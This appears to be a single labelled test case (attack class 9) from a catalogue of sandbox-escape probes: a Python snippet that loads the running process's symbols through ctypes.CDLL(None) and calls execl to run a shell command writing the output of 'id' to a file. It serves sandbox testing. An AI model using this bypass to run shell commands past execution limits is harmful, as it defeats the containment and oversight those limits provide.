# attack-class: 9
# title: ctypes.CDLL(None) symbols of the running process
# why: dlopen(NULL) exposes every symbol already linked, including execve

import ctypes

proc = ctypes.CDLL(None)
proc.execl(b"/bin/sh", b"sh", b"-c", b"id > /workspace/x", None)
